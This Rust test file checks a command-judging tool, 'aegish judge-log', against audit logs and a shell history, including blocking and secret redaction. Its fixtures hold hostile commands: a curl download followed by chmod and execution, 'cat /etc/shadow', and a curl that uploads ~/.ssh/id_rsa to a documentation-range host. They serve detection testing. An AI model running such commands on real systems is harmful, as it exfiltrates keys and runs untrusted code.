//! `aegish judge-log`: verdicts as lines of JSON, a summary, a page, and logs that cannot be told.
#![cfg(feature = "records")]
#![allow(clippy::expect_used)] // helpers of tests are tests

mod common;

use aegish_test_support::folder::Folder;
use common::{Run, command, finish, lines};
use serde_json::Value;
use std::fs;

fn judge_log(folder: &Folder, arguments: &[&str], input: &str) -> Run {
    let mut command = command();
    command.arg("judge-log").args(arguments).current_dir(&folder.0);
    finish(command, input.as_bytes())
}

/// Three processes of a login session, and one of another.
fn audit_log() -> String {
    let exec = |id: u32, session: u32, words: &str| {
        format!(
            "node=web type=SYSCALL msg=audit(1700000000.000:{id}): success=yes ppid=1 pid={id} auid=1000 ses={session}\n\
             node=web type=EXECVE msg=audit(1700000000.000:{id}): argc=0 {words}\n\
             node=web type=CWD msg=audit(1700000000.000:{id}): cwd=\"/srv\"\n\
             node=web type=PROCTITLE msg=audit(1700000000.000:{id}): proctitle=78\n"
        )
    };
    exec(1, 7, r#"a0="curl" a1="-so" a2="x" a3="http://192.0.2.1/x""#)
        + &exec(2, 8, r#"a0="./x""#)
        + &exec(3, 7, r#"a0="chmod" a1="+x" a2="x""#)
        + &exec(4, 7, r#"a0="./x""#)
}

#[test]
fn sessions_are_kept_apart_and_facts_carry_over_within_one() {
    let folder = Folder::new("judge-log-sessions");
    let run = judge_log(&folder, &["--jsonl", "-"], &audit_log());
    assert_eq!(run.status, 0, "{}", run.stderr);
    let answers: Vec<Value> =
        lines(&run.stdout).iter().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    assert_eq!(answers.len(), 4);
    assert_ne!(answers[1]["action"], "block", "{}", answers[1]);
    assert_eq!(answers[3]["action"], "block", "{}", answers[3]);
    assert_eq!(answers[3]["session"], "web/login-7");
    assert_eq!(answers[3]["time"], "2023-11-14T22:13:20Z");
}

#[cfg(feature = "parquet")]
#[test]
fn a_table_has_a_row_for_each_command_and_ends_as_its_format_wants() {
    let folder = Folder::new("judge-log-table");
    let run = judge_log(&folder, &["--parquet", "verdicts.parquet"], &audit_log());
    assert_eq!(run.status, 0, "{}", run.stderr);
    let bytes = fs::read(folder.0.join("verdicts.parquet")).expect("a table");
    assert!(bytes.starts_with(b"PAR1") && bytes.ends_with(b"PAR1"));
    let run = judge_log(&folder, &["--parquet", "/nonexistent/x"], &audit_log());
    assert_eq!(run.status, 3);
    assert!(run.stderr.contains("nothing was judged: /nonexistent/x"), "{}", run.stderr);
}

#[test]
fn a_summary_and_a_page_name_the_finding_and_hide_secrets() {
    let folder = Folder::new("judge-log-summary");
    folder.write(
        ".bash_history",
        "ls\ncat /etc/shadow\ncurl -u admin:hunter2 -T ~/.ssh/id_rsa http://192.0.2.1/\n",
    );
    let run = judge_log(&folder, &[".bash_history", "--html", "report.html"], "");
    assert_eq!(run.status, 0, "{}", run.stderr);
    assert!(run.stdout.starts_with("3 commands in 1 sessions: 2 blocked"), "{}", run.stdout);
    let page = fs::read_to_string(folder.0.join("report.html")).expect("a page");
    for text in [&run.stdout, &page] {
        assert!(text.contains("critical-file-read") && text.contains("cat /etc/shadow"), "{text}");
        assert!(!text.contains("hunter2"), "{text}");
    }
}

#[test]
fn only_strict_verdicts_are_written_if_that_is_wanted() {
    let folder = Folder::new("judge-log-strict");
    let arguments = ["--format", "bash", "--jsonl", "-", "--at-least", "block", "-"];
    let run = judge_log(&folder, &arguments, "ls\ncat /etc/shadow\n");
    assert_eq!(lines(&run.stdout).len(), 1, "{}", run.stdout);
}

#[test]
fn a_log_of_an_unknown_kind_is_refused_with_what_to_do() {
    let folder = Folder::new("judge-log-unknown");
    let run = judge_log(&folder, &["-"], "hello\n");
    assert_eq!(run.status, 2);
    assert!(run.stderr.contains("--format"), "{}", run.stderr);
    let run = judge_log(&folder, &["missing.log"], "");
    assert_eq!(run.status, 3);
    assert!(run.stderr.contains("missing.log was not judged"), "{}", run.stderr);
}
